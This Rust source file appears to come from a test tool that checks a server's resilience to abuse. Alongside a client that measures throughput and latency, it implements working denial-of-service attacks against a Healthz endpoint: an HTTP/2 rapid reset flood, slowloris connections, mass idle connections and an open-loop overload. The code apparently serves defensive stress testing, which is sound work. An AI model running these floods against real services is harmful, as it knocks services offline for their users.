//! The clients of the abuse tool: the well-behaved one that measures, and the attackers.

use std::net::{IpAddr, SocketAddr};
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

use bytes::Bytes;
use http_body_util::{BodyExt as _, Full};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;

/// The call every client makes: Connect unary `Healthz`, `{}` in JSON.
const HEALTHZ: &str = "/zitadel.auth.v1.AuthService/Healthz";

fn healthz(addr: SocketAddr) -> http::Request<Full<Bytes>> {
    http::Request::post(format!("http://{addr}{HEALTHZ}"))
        .header(http::header::HOST, addr.to_string())
        .header(http::header::CONTENT_TYPE, "application/json")
        .body(Full::new(Bytes::from_static(b"{}")))
        .unwrap_or_default()
}

/// Latencies of answered calls, in microseconds.
#[derive(Clone, Debug, Default)]
pub struct Latencies(Vec<u64>);

impl Latencies {
    /// The `q` quantile (0..=1), in milliseconds; 0 when there are none.
    pub fn quantile_ms(&self, q: f64) -> f64 {
        if self.0.is_empty() {
            return 0.0;
        }
        let mut sorted = self.0.clone();
        sorted.sort_unstable();
        let index = ((sorted.len() as f64 - 1.0) * q).round() as usize;
        sorted[index] as f64 / 1000.0
    }

    /// How many.
    pub fn len(&self) -> usize {
        self.0.len()
    }
}

/// What the well-behaved client saw.
#[derive(Clone, Debug, Default)]
pub struct Sample {
    /// Successful calls per second.
    pub rate: f64,
    /// Their latencies.
    pub latencies: Latencies,
    /// Calls that failed (error status or broken connection).
    pub failures: u64,
}

/// The well-behaved client: `connections` HTTP/1.1 keep-alive connections, each calling
/// back to back for `length`.
pub async fn measure(addr: SocketAddr, connections: usize, length: Duration) -> Sample {
    let started = Instant::now();
    let until = started + length;
    let mut tasks = Vec::new();
    for _ in 0..connections {
        tasks.push(tokio::spawn(async move {
            let mut latencies = Vec::new();
            let mut failures = 0u64;
            while Instant::now() < until {
                let Ok(tcp) = TcpStream::connect(addr).await else {
                    failures += 1;
                    tokio::time::sleep(Duration::from_millis(10)).await;
                    continue;
                };
                let _ = tcp.set_nodelay(true);
                let io = hyper_util::rt::TokioIo::new(tcp);
                let Ok((mut sender, connection)) = hyper::client::conn::http1::handshake(io).await
                else {
                    failures += 1;
                    continue;
                };
                tokio::spawn(connection);
                while Instant::now() < until {
                    let sent = Instant::now();
                    let ok = match sender.send_request(healthz(addr)).await {
                        Ok(response) => {
                            let status = response.status();
                            response.into_body().collect().await.is_ok() && status == 200
                        }
                        Err(_) => false,
                    };
                    if !ok {
                        failures += 1;
                        break;
                    }
                    latencies.push(sent.elapsed().as_micros() as u64);
                }
            }
            (latencies, failures)
        }));
    }
    let mut sample = Sample::default();
    for task in tasks {
        if let Ok((latencies, failures)) = task.await {
            sample.latencies.0.extend(latencies);
            sample.failures += failures;
        }
    }
    sample.rate = sample.latencies.len() as f64 / started.elapsed().as_secs_f64();
    sample
}

/// What the rapid reset flood did.
#[derive(Clone, Debug, Default)]
pub struct Flood {
    /// Streams opened and reset at once.
    pub resets: u64,
    /// Connections the server closed (GOAWAY) under the flood.
    pub connections_closed: u64,
}

/// Opens HTTP/2 streams and resets each at once, as fast as it can, on one connection at a
/// time (a new one when the server closes it), from the address `source`, until `stop`.
pub async fn rapid_reset(addr: SocketAddr, source: IpAddr, stop: Arc<AtomicBool>) -> Flood {
    let resets = AtomicU64::new(0);
    let mut flood = Flood::default();
    while !stop.load(Ordering::Relaxed) {
        let Ok(tcp) = connect_from(source, addr).await else {
            tokio::time::sleep(Duration::from_millis(10)).await;
            continue;
        };
        let Ok((sender, connection)) = h2::client::handshake(tcp).await else {
            continue;
        };
        let connection = tokio::spawn(connection);
        let mut sender = Some(sender);
        while let Some(ready) = sender.take() {
            if stop.load(Ordering::Relaxed) {
                break;
            }
            let Ok(mut ready) = ready.ready().await else {
                break;
            };
            let request = http::Request::post(format!("http://{addr}{HEALTHZ}"))
                .header(http::header::CONTENT_TYPE, "application/json")
                .body(())
                .unwrap_or_default();
            let Ok((_, mut stream)) = ready.send_request(request, false) else {
                break;
            };
            stream.send_reset(h2::Reason::CANCEL);
            resets.fetch_add(1, Ordering::Relaxed);
            sender = Some(ready);
            // Let the connection task write the frames: a flood, but one that reaches the
            // server.
            tokio::task::yield_now().await;
        }
        connection.abort();
        flood.connections_closed += 1;
    }
    flood.resets = resets.load(Ordering::Relaxed);
    flood
}

/// A connection to `addr` from the address `source` (any port).
async fn connect_from(source: IpAddr, addr: SocketAddr) -> std::io::Result<TcpStream> {
    let socket = match source {
        IpAddr::V4(_) => tokio::net::TcpSocket::new_v4()?,
        IpAddr::V6(_) => tokio::net::TcpSocket::new_v6()?,
    };
    socket.bind(SocketAddr::new(source, 0))?;
    socket.connect(addr).await
}

/// Opens `count` connections, makes one HTTP/1.1 call on each and keeps them open, idle.
pub async fn idle_connections(addr: SocketAddr, count: usize) -> Vec<TcpStream> {
    use futures_util::StreamExt as _;
    let request = format!("GET /healthz HTTP/1.1\r\nhost: {addr}\r\n\r\n");
    futures_util::stream::iter(0..count)
        .map(|_| {
            let request = request.clone();
            async move {
                let mut tcp = TcpStream::connect(addr).await.ok()?;
                tcp.write_all(request.as_bytes()).await.ok()?;
                let mut answer = [0u8; 1024];
                let n = tcp.read(&mut answer).await.ok()?;
                (n > 0).then_some(tcp)
            }
        })
        .buffer_unordered(256)
        .filter_map(std::future::ready)
        .collect()
        .await
}

/// `count` slowloris connections: a request line, then one header byte every `every`, until
/// `stop`. Returns how many the server closed meanwhile.
pub async fn slowloris(
    addr: SocketAddr,
    count: usize,
    every: Duration,
    stop: Arc<AtomicBool>,
) -> u64 {
    let closed = Arc::new(AtomicU64::new(0));
    let mut tasks = Vec::new();
    for _ in 0..count {
        let stop = stop.clone();
        let closed = closed.clone();
        tasks.push(tokio::spawn(async move {
            let Ok(mut tcp) = TcpStream::connect(addr).await else {
                return;
            };
            if tcp
                .write_all(b"GET /healthz HTTP/1.1\r\nx-slow: ")
                .await
                .is_err()
            {
                closed.fetch_add(1, Ordering::Relaxed);
                return;
            }
            while !stop.load(Ordering::Relaxed) {
                tokio::time::sleep(every).await;
                if tcp.write_all(b"a").await.is_err() {
                    closed.fetch_add(1, Ordering::Relaxed);
                    return;
                }
            }
        }));
    }
    for task in tasks {
        let _ = task.await;
    }
    closed.load(Ordering::Relaxed)
}

/// What an open-loop run saw: admitted calls (200) and shed ones (503).
#[derive(Clone, Debug, Default)]
pub struct Offered {
    /// Calls per second offered.
    pub offered_rate: f64,
    /// Admitted calls' latencies.
    pub admitted: Latencies,
    /// Shed calls' latencies.
    pub shed: Latencies,
    /// Calls that failed otherwise.
    pub failures: u64,
}

/// Offers `rate` calls per second for `length` over `connections` HTTP/2 connections, each
/// call on its own task (an open loop: a slow answer does not slow the offer).
pub async fn open_loop(
    addr: SocketAddr,
    rate: f64,
    connections: usize,
    length: Duration,
) -> Offered {
    let mut senders = Vec::new();
    for _ in 0..connections {
        let Ok(tcp) = TcpStream::connect(addr).await else {
            continue;
        };
        let _ = tcp.set_nodelay(true);
        let io = hyper_util::rt::TokioIo::new(tcp);
        if let Ok((sender, connection)) =
            hyper::client::conn::http2::handshake(hyper_util::rt::TokioExecutor::new(), io).await
        {
            tokio::spawn(connection);
            senders.push(sender);
        }
    }
    let mut outcome = Offered::default();
    if senders.is_empty() {
        return outcome;
    }
    let (tx, mut rx) = tokio::sync::mpsc::unbounded_channel::<(Option<u16>, u64)>();
    let period = Duration::from_secs_f64(1.0 / rate);
    let mut ticks = tokio::time::interval(period);
    ticks.set_missed_tick_behavior(tokio::time::MissedTickBehavior::Burst);
    let started = Instant::now();
    let mut sent = 0u64;
    while started.elapsed() < length {
        ticks.tick().await;
        let mut sender = senders[sent as usize % senders.len()].clone();
        sent += 1;
        let tx = tx.clone();
        tokio::spawn(async move {
            let at = Instant::now();
            let status = match sender.send_request(healthz(addr)).await {
                Ok(response) => {
                    let status = response.status().as_u16();
                    response.into_body().collect().await.ok().map(|_| status)
                }
                Err(_) => None,
            };
            let _ = tx.send((status, at.elapsed().as_micros() as u64));
        });
    }
    outcome.offered_rate = sent as f64 / started.elapsed().as_secs_f64();
    drop(tx);
    while let Some((status, micros)) = rx.recv().await {
        match status {
            Some(200) => outcome.admitted.0.push(micros),
            Some(503) => outcome.shed.0.push(micros),
            _ => outcome.failures += 1,
        }
    }
    outcome
}
